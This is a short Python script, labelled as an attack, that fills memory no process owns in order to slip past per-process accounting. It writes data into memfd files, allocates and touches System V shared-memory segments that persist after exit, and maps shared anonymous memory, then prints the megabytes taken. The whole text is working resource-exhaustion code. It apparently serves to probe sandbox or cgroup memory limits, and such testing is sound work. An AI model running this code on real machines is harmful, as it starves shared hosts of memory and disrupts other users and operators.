# Fills memory that belongs to no process: files in memory, System V segments and shared mappings.
# %% attack
import ctypes
import mmap
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
megabyte = b"x" * 2**20
held, taken = [], 0
for _ in range(40):
    try:
        file = os.memfd_create("left-by-an-attack")
        for _ in range(50):
            taken += os.write(file, megabyte)
        held.append(file)
    except OSError:
        break
for _ in range(40):
    segment = libc.shmget(0, 50 * 2**20, 0o1600)
    if segment >= 0:
        libc.shmat.restype = ctypes.c_void_p
        address = libc.shmat(segment, None, 0)
        ctypes.memset(address, 1, 50 * 2**20)
        libc.shmdt(ctypes.c_void_p(address))
        taken += 50 * 2**20
try:
    for _ in range(40):
        shared = mmap.mmap(-1, 50 * 2**20)
        for page in range(0, len(shared), 4096):
            shared[page] = 1
        shared.madvise(mmap.MADV_DONTNEED)
        held.append(shared)
        taken += len(shared)
except OSError:
    pass
print("megabytes outside any process:", taken // 2**20)
